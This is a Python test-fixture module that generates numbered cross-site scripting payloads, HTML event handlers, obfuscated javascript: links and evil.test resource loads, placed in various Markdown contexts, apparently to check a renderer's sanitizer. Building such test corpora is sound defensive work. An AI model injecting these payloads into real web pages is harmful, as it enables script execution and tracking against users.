"""Hostile texts that make an unprotected page run a script or load from another origin, in every context of Markdown.

``{call}`` is a script that reports back, ``{away}`` a URL on another origin. Which of the texts are dangerous is not
decided here: a text counts only if the test has seen it work in an unprotected page.
"""

from collections.abc import Iterator

TAGS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script type=text/javascript>{call}</script>",
    "<script type=module>{call}</script>",
    '<script src="data:text/javascript,{call}"></script>',
    '<script src="{away}.js"></script>',
    '<img src=x onerror="{call}">',
    '<IMG SRC=x OnErRoR="{call}">',
    '<img src="data:image/png;base64,AAAA" onerror="{call}">',
    '<img srcset="x 1x" onerror="{call}">',
    '<img src="{away}.png">',
    '<img srcset="{away}.png 2x, {away}.png 1x">',
    '<picture><source srcset="{away}.png"><img></picture>',
    '<svg onload="{call}"></svg>',
    "<svg><script>{call}</script></svg>",
    '<svg><animate onbegin="{call}" attributeName=x dur=1s></svg>',
    '<svg><set onbegin="{call}" attributeName=x dur=1s></svg>',
    '<svg><image href="{away}.png"></image></svg>',
    '<svg><a href="javascript:{call}"><text y=9>x</text></a></svg>',
    "<math><mtext><script>{call}</script></mtext></math>",
    '<iframe src="javascript:{frame}"></iframe>',
    '<iframe srcdoc="<script>{frame}</script>"></iframe>',
    '<iframe src="data:text/html,<script>{frame}</script>"></iframe>',
    '<iframe src="{away}.html"></iframe>',
    '<iframe onload="{call}"></iframe>',
    '<object data="javascript:{call}"></object><img src=x onerror="{call}">',
    '<object data="data:text/html,<script>{frame}</script>"></object>',
    '<object data="{away}.swf"></object>',
    '<embed src="{away}.swf">',
    '<embed src="data:text/html,<script>{frame}</script>">',
    '<input autofocus onfocus="{call}">',
    '<input type=image src="{away}.png">',
    '<input type=image src=x onerror="{call}">',
    '<details open ontoggle="{call}"><summary>x</summary></details>',
    '<video onerror="{call}"><source src=x></video>',
    '<video src=x onerror="{call}"></video>',
    '<video poster="{away}.png"></video>',
    '<video src="{away}.mp4"></video>',
    '<audio src=x onerror="{call}"></audio>',
    '<audio src="{away}.mp3"></audio>',
    '<marquee onstart="{call}">x</marquee>',
    '<style onload="{call}">a{{}}</style>',
    "<style>@import url('{away}.css');</style>",
    "<style>body{{background:url('{away}.png')}}</style>",
    '<link rel=stylesheet href="{away}.css">',
    '<link rel=stylesheet href=x onerror="{call}">',
    '<link rel=icon href=x><link rel=stylesheet href="data:text/css,a" onload="{call}">',
    '<body onload="{call}">',
    '<body background="{away}.png">',
    "<div style=\"background:url('{away}.png')\">x</div>",
    '<p style="background-image:url({away}.png)">x</p>',
    '<table background="{away}.png"><tr><td>x</td></tr></table>',
    '<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{call}">x</p>',
    '<p style="animation:k 1s" onanimationstart="{call}">x</p><style>@keyframes k{{from{{left:0}}}}</style>',
    '<a href="javascript:{call}">x</a>',
    '<a href="JaVaScRiPt:{call}">x</a>',
    '<a href=" javascript:{call}">x</a>',
    '<a href="java&#10;script:{call}">x</a>',
    '<a href="java&Tab;script:{call}">x</a>',
    '<a href="&#106;avascript:{call}">x</a>',
    '<a href="&#x6A;avascript:{call}">x</a>',
    '<a href="javascript&colon;{call}">x</a>',
    '<a href="&#1;javascript:{call}">x</a>',
    '<a onclick="{call}" href="#">x</a>',
    '<a href="#" onfocus="{call}" autofocus>x</a>',
    '<b onclick="{call}">x</b>',
    '<form action="javascript:{call}"><button>x</button></form>',
    '<form><button formaction="javascript:{call}">x</button></form>',
    '<form><input type=submit formaction="javascript:{call}" value=x></form>',
    '<button onclick="{call}">x</button>',
    '<textarea autofocus onfocus="{call}"></textarea>',
    '<select autofocus onfocus="{call}"></select>',
    '<template shadowrootmode=open><img src=x onerror="{call}"></template><img src=x onerror="{call}">',
    '<noscript><p title="</noscript><img src=x onerror={call}>"></noscript><img src=x onerror="{call}">',
    '<custom-part tabindex=1 onfocus="{call}" autofocus>x</custom-part>',
)
"""HTML."""

LINKS = (
    "[x](javascript:{call})",
    "[x](JAVASCRIPT:{call})",
    "[x](<javascript:{call}>)",
    "[x](javascript&colon;{call})",
    "[x](&#106;avascript:{call})",
    "[x](java&#115;cript:{call})",
    "[x](java&Tab;script:{call})",
    "[x](&#x01;javascript:{call})",
    '[x](javascript:{call} "title")',
    "[**x**](javascript:{call})",
    "[`x`](javascript:{call})",
    "<javascript:{call}>",
    "[x]\n\n[x]: javascript:{call}",
    "[x][y]\n\n[y]: <javascript:{call}>",
    "![](javascript:{call}) [x](javascript:{call})",
    "![x]({away}.png)",
    "![]({away}.png)",
    '![x](<{away}.png> "title")',
    "[![x]({away}.png)](https://example.com)",
    "![x][y]\n\n[y]: {away}.png",
    "![x](//evil.test/{number}.png)",
    "![x](http://evil.test/{number}.svg)",
)
"""Markdown."""

PLACES = (
    "{it}",
    "A word before {it} and one after.",
    "- first\n- {it}",
    "> {it}",
    "**{it}**",
    "| a | b |\n|---|---|\n| {it} | c |",
    "<div>\n{it}\n</div>",
)


def generate_payloads() -> Iterator[tuple[int, str]]:
    """Yield every payload with its number."""
    number = 0
    for vector in (*TAGS, *LINKS):
        for place in PLACES:
            if "\n\n[" in vector and place != "{it}":
                continue
            number += 1
            call = f"top.postMessage({number},String.fromCharCode(42))"
            filled = vector.format(call=call, frame=call, away=f"https://evil.test/{number}", number=number)
            yield number, place.replace("{it}", filled)
